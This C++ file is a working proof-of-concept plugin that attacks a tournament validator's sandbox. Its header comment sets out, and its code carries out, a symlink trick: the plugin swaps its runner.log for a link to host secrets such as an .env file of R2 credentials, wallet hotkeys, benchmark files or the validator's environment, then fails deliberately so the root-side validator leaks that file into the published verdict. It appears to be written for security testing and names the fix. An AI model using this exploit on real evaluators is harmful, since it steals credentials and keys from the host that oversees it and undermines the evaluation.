// Attack (READ and carry out): the runner's log is a path in its own writable
// scratch folder (scratch/runner.log, stdout and stderr point there). When a
// run fails, the trusted side (the validator's process, root, outside the
// sandbox) opens that PATH again (evaluator.cpp, log_tail: ::open without
// O_NOFOLLOW, no check that it is still the file it created) and puts its
// last 399 bytes, sanitised, into the verdict as "the runner's last output".
// The plugin replaces runner.log, at dlopen, with a symlink to any host file
// (resolved by the validator, not the sandbox): PROJECT_ROOT/.env (R2
// credentials), a wallet's hotkey file under ~/.bittensor, the benchmark
// folder, or /proc/self/environ, which then is the VALIDATOR's environment
// (its first 399 bytes: lseek(SEEK_END) fails on procfs, so log_tail reads
// from offset 0). It then fails its run on purpose (an exception during
// warmup) so that the trusted side reads the tail into the failure message.
// The project root comes from /proc/self/exe (the runner is bound at its host
// path). Each run leaks one file; a submission with several runs leaks
// several. Carried out through the verdict (printed, logged, published).
// Fixed when log_tail never follows what the runner controls (O_NOFOLLOW,
// or the log kept as the fd opened before the spawn) and the verdict carries
// no canary.
// Measured (CPU tiny, local-bench --runs 1): REJECTED as intended, and the
// verdict's reason ends "the runner's last output:
// TOURNAMENT_R2_SECRET_ACCESS_KEY=CANARY123_DOTENV" (the planted .env), and,
// with LEAK_TARGET "benchmark/CANARY.txt", "BENCHMARK_CANARY_FILE_777"; with
// "/proc/self/environ" the validator's FIRST environment variable only
// (sanitize() stops at the first NUL): CANARY123 when it was first.
// expect: crash
#include <tournament/train_api.h>

#include <limits.h>
#include <unistd.h>

#include <stdexcept>
#include <string>

using namespace tournament;

#ifndef LEAK_TARGET
#define LEAK_TARGET ".env"  // relative to the project root, or an absolute host path
#endif

namespace {

std::string project_root() {
  char buf[PATH_MAX];
  const ssize_t n = readlink("/proc/self/exe", buf, sizeof buf - 1);
  if (n <= 0) return "";
  buf[n] = 0;
  const std::string exe(buf), tail = "/build/Release/tournament-runner";
  if (exe.size() <= tail.size() || exe.compare(exe.size() - tail.size(), tail.size(), tail) != 0) return "";
  return exe.substr(0, exe.size() - tail.size());
}

struct Plant {
  Plant() {
    std::string target = LEAK_TARGET;
    if (target[0] != '/') target = project_root() + "/" + target;
    ::unlink("runner.log");  // the cwd is the scratch folder; fds 1 and 2 keep the old inode
    if (::symlink(target.c_str(), "runner.log") != 0) ::perror("symlink");
  }
} plant;

}  // namespace

TrainResult inner_steps(Qwen2ForCausalLM& model, DataIterator& data, int64_t num_steps, torch::Device device,
                        const OptimizerConfig& optimizer) {
  throw std::runtime_error("failing on purpose so that the validator reads runner.log");
}
